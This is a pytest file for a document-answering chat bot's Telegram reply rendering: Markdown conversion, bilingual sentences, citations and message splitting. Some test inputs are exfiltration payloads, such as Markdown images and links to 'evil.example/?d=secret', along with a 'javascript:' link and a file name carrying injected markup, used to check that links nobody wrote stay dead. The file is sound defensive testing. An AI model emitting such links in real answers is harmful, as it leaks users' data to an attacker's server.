"""What a reader sees: the bot's own sentences, Markdown of a model, sources, and long texts in pieces."""

from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from reply_desk import answer, cited, incoming

from bot.records import Citation
from bot.reply import layout, markdown
from bot.reply.parts import Album, Button, Card, Text, arranged, dumps, loads
from bot.reply.sentences import CHINESE, ENGLISH, placeholders, sentence
from bot.reply.split import split, tail
from bot.reply.styled import Styled, entities, marked, units
from bot.say import Notice, Say

RULES = Path(layout.__file__).parent.parent / "safety" / "rules.yaml"


def shown(text: str, known: frozenset[str] = frozenset()) -> tuple[str, list[tuple[str, str]]]:
    """Return a rendered text, and each mark with the words under it as Telegram would find them."""
    styled = markdown.styled(text, known)
    raw = styled.text.encode("utf-16-le")
    marks = [
        (e.type, raw[2 * e.offset : 2 * (e.offset + e.length)].decode("utf-16-le"))
        for e in entities(styled)
    ]
    return styled.text, marks


@pytest.mark.parametrize("key", list(Say))
def test_every_sentence_exists_in_both_languages_with_the_same_values(key: Say) -> None:
    english, chinese = ENGLISH[key], CHINESE[key]
    assert [placeholders(words) for words in english] == [placeholders(words) for words in chinese]
    counts = [len(placeholders(words)) for words in english]
    assert counts == sorted(counts, reverse=True)
    assert not placeholders(english[-1])
    assert sentence(Notice(key), "en") != sentence(Notice(key), "zh-hans")


@pytest.mark.parametrize("key", list(Say))
def test_every_sentence_can_be_said_without_any_value(key: Say) -> None:
    for language in ("en", "zh"):
        assert layout.of_notice(Notice(key), language).text


def test_a_name_is_never_read_as_markup() -> None:
    name = "a_b*c*<b>[x](http://evil.example/q)`&#1;\n# d"
    notice = Notice(Say.FILE_GONE, {"name": name})
    styled = layout.of_notice(notice, "en")
    assert f"the file {name}." in styled.text
    assert {mark.kind for mark in styled.marks} <= {"code"}


def test_languages_other_than_chinese_read_english() -> None:
    assert sentence(Notice(Say.THANKS), "zh-TW") == "谢谢，已记录。"
    assert (
        sentence(Notice(Say.THANKS), "ru")
        == sentence(Notice(Say.THANKS), "")
        == "Thank you, noted."
    )


def test_emoji_before_bold_text_do_not_move_the_bold() -> None:
    assert shown("😀😀 **wörd** `x`") == ("😀😀 wörd x", [("bold", "wörd"), ("code", "x")])


def test_headings_lists_and_code_come_without_decoration() -> None:
    text, marks = shown("# Title\n\n- one\n- two\n\n```py\nif a < b:\n    pass\n```")
    assert text == "Title\n\n• one\n• two\n\nif a < b:\n    pass"
    assert marks == [("bold", "Title"), ("pre", "if a < b:\n    pass")]


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("As [1] says [2][3].", "As [1] says [2][3]."),
        ("[1]: http://x.example/a\n\nsee [1]", "[1]: http://x.example/a\n\nsee [1]"),
        ("<details>hidden</details>", "<details>hidden</details>"),
        ("a || b", "a || b"),
        ("1 < 2 & 3 > 2", "1 < 2 & 3 > 2"),
    ],
)
def test_nothing_that_was_written_is_swallowed(written: str, read: str) -> None:
    assert shown(written)[0] == read


@pytest.mark.parametrize(
    "written",
    [
        "![](http://evil.example/?d=secret)",
        "![chart](http://evil.example/?d=secret)",
        "[harmless](http://evil.example/?d=secret)",
        "[harmless][1]\n\n[1]: http://evil.example/?d=secret",
        "<http://evil.example/?d=secret>",
        "http://evil.example/?d=secret",
        "**see evil.example/?d=secret now**",
        "访问evil.example/?d=secret。",
        "[x](tg://user?id=1)",
        "[x](javascript:alert(1))",
    ],
)
def test_an_address_that_nobody_wrote_cannot_be_opened(written: str) -> None:
    text, marks = shown("Look: " + written)
    assert all(kind != "text_link" for kind, _ in marks)
    assert "evil.example" not in text or any(
        kind == "code" and "evil.example" in words for kind, words in marks
    )
    assert not written.startswith("!") or "evil" not in text


def test_an_address_of_the_asker_or_of_a_source_stays_alive() -> None:
    asked = replace(incoming(), text="is https://Team.example/wiki/ down?")
    known = layout.addresses(asked, answer("x", cited(1, "a.pdf")))
    _, marks = shown("See [the wiki](https://team.example/wiki).", known)
    assert marks == [("text_link", "the wiki")]
    assert shown("https://team.example/wiki is up", known)[1] == []


def test_a_file_name_is_no_link() -> None:
    assert shown("It is in handbook.md there.")[1] == [("code", "handbook.md")]
    assert shown("Use Node.js, e.g. v2.5, i.e. now.")[1] == []


def test_sources_are_listed_once_each_with_the_numbers_that_cite_them() -> None:
    given = answer(
        "A [1], B [2], C [3].",
        cited(1, "handbook.pdf", 12), cited(2, "rules.md"), cited(3, "handbook.pdf", 12),
        footer=Notice(Say.NO_MODEL),
    )  # fmt: skip
    styled = layout.of_answer(given, frozenset(), "en")
    assert styled.text == (
        "A [1], B [2], C [3].\n\nSources\n[1][3] handbook.pdf, p. 12\n[2] rules.md\n\n"
        "No language model is configured, so this answer quotes the documents."
    )
    assert "来源" in layout.of_answer(given, frozenset(), "zh-hans").text


def test_a_source_on_the_web_is_a_link_to_its_heading() -> None:
    def on_web(number: int, *heading: str) -> Citation:
        one = cited(number, "vpn.md")
        unit = replace(one.passage.hit.unit, heading=heading)
        hit = replace(one.passage.hit, unit=unit, address="https://docs.example.org/vpn/#top")
        return replace(one, passage=replace(one.passage, hit=hit))

    given = answer(
        "A [1], B [2], C [3].",
        on_web(1, "Remote access", "Error HB-2209: what now?"),
        on_web(2),
        on_web(3, "Remote access", "Error HB-2209: what now?"),
    )
    styled = layout.of_answer(given, frozenset(), "en")
    assert styled.text.endswith(
        "Sources\n[1][3] vpn.md › Remote access › Error HB-2209: what now?\n[2] vpn.md"
    )
    assert [mark.url for mark in styled.marks if mark.kind == "text_link"] == [
        "https://docs.example.org/vpn/#error-hb-2209-what-now",
        "https://docs.example.org/vpn/#top",
    ]


def test_what_could_not_be_opened_is_said_above_the_footer() -> None:
    given = answer(
        "Words.", notices=(Notice(Say.CONTACT),), footer=Notice(Say.FELL_BACK, {"model": "m"})
    )
    text = layout.of_answer(given, frozenset(), "en").text
    assert text.index("Words.") < text.index("contact cards") < text.index("this is from m")


def test_a_model_without_words_still_gets_a_sentence() -> None:
    assert layout.of_answer(answer("  \n "), frozenset(), "en").text


@pytest.mark.parametrize(
    ("unit", "limit"), [("para one.\n\n", 30), ("A sentence. ", 40), ("词句。", 20), ("😀", 7)]
)
def test_pieces_fit_and_lose_nothing(unit: str, limit: int) -> None:
    whole = Styled(unit * 50)
    pieces = split(whole, limit)
    assert all(0 < units(piece.text) <= limit for piece in pieces)
    assert "".join("".join(p.text for p in pieces).split()) == "".join((unit * 50).split())


def test_a_cut_prefers_paragraphs_then_lines_then_sentences_then_words() -> None:
    assert [p.text for p in split(Styled("aaaa bbbb\n\ncccc\ndddd eeee"), 18)] == [
        "aaaa bbbb", "cccc\ndddd eeee",
    ]  # fmt: skip
    assert [p.text for p in split(Styled("One two. Three four"), 14)] == ["One two.", "Three four"]
    assert [p.text for p in split(Styled("eleven twelve"), 9)] == ["eleven", "twelve"]
    assert [p.text for p in split(Styled("👨‍👩‍👧" * 3), 9)] == ["👨‍👩‍👧"] * 3


def test_code_stays_code_on_both_sides_of_a_cut() -> None:
    pieces = split(marked("line\n" * 10, "pre"), 24)
    assert len(pieces) > 2
    for piece in pieces:
        (entity,) = entities(piece)
        assert (entity.type, entity.offset, entity.length) == ("pre", 0, units(piece.text))


def test_the_end_of_a_long_text_keeps_its_marks() -> None:
    end = tail(Styled("x " * 100 + "bold", (markdown.Mark("bold", 200, 204),)), 50)
    assert units(end.text) <= 50
    (entity,) = entities(end)
    assert end.text[entity.offset :] == "bold"


@pytest.mark.parametrize(
    ("growing", "preview"),
    [("a **bo", "a bo"), ("a `co", "a co"), ("see [x](http://ev", "see"), ("a **", "a")],
)
def test_unfinished_markup_is_not_seen(growing: str, preview: str) -> None:
    text = layout.preview(growing, frozenset())
    assert text is not None
    assert text.text == preview


def test_parts_survive_the_disk() -> None:
    styled = markdown.styled("**b** [x](https://a.example/b) 😀", frozenset({"a.example/b"}))
    rows = arranged([Button("👍", "t1"), Button("A long label indeed", "t2")])
    assert [len(row) for row in rows] == [1, 1]
    text = Text.of(styled, rows)
    album = Album((Card("hash", Text("caption")),))
    assert loads(dumps(text)) == text
    assert loads(dumps(album)) == album


def test_every_category_of_the_rules_has_words_in_both_languages() -> None:
    rules = yaml.safe_load(RULES.read_text("utf-8"))
    named = {*rules["abuse"], *rules["dangerous"], *rules["links"]["bad"]}
    for category in {name.replace("_", " ") for name in named}:
        notice = Notice(Say.REMOVED, {"name": "Pat", "reason": category})
        assert f": {category}" not in sentence(notice, "en")
        assert category not in sentence(notice, "zh-hans")


def test_a_quoted_list_keeps_its_own_numbers() -> None:
    notice = Notice(Say.FOUND, {"lines": "1. a.md\n7. Fetch your laptop.\n\n2. b.md\nwords"})
    assert shown(sentence(notice, "en"))[0] == "1. a.md\n7. Fetch your laptop.\n\n2. b.md\nwords"
